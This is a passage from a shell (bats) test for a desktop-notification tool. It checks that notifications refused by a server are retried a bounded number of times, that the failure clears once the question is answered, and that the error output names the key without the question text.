	"$BATS_TEST_DIRNAME/notify/refuse" >"$(N)/refused" 2>"$(N)/refuse.err" 3>&- &
	echo $! >"$(N)/plant.pid"
	eventually server_up
	start_notify
	question deploy >/dev/null
	eventually grep -q notify "$(N)/refused" || { cat "$(N)/notify.err" "$(N)/refuse.err"; false; }
	eventually eval '[ "$(grep -c notify "$(N)/refused")" -ge 3 ]' || { cat "$(N)/refused" "$(N)/notify.err"; arc-status --show deploy; false; }
	says_gave_up deploy 'desktop failed: refused by the server: too many notifications shown'
	sleep 1
	[ "$(grep -c notify "$(N)/refused")" -eq 3 ]	# bounded
	# settled: the failure no longer stands
	arc-answer deploy allow >/dev/null
	eventually eval '! arc-status --list | grep -q failed'
	run arc-status --show deploy
	if grep -q '^delivery:' <<<"$output"; then false; fi
	# said on arc-notify's standard error too, with the key, not the
	# text (make check's wrapper hands a command's stderr on at its exit)
	stop notify
	grep -q 'deploy: the desktop sink failed: refused by the server' "$(N)/notify.err"
	if grep -q 'May I deploy' "$(N)/notify.err"; then false; fi
}
